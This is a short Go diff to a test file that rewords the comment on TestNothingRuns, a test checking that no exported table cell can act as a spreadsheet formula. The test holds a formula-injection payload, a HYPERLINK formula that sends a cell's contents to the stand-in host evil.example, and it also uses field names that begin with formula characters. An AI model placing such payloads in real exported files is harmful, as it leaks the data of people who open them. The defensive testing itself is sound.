@@ -33,7 +33,7 @@ func runs(cell string) bool {
 	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") && !isNumber
 }
 
-// TestNothingRuns: whoever names raters, sessions, studies, words and parameters, no cell of any table is run.
+// TestNothingRuns: no cell of any table is a formula, whatever raters, sessions, studies, words and parameters are called.
 func TestNothingRuns(t *testing.T) {
 	const evil = `=HYPERLINK("http://evil.example/?"&A1,"open")`
 	sp := space.Space{Parameters: []space.Parameter{{Name: "@bean", Type: "categorical", Choices: []space.Value{space.ValueOf("-a+b"), space.ValueOf("+c")}}, space.Float("=x", -1, 1)}}
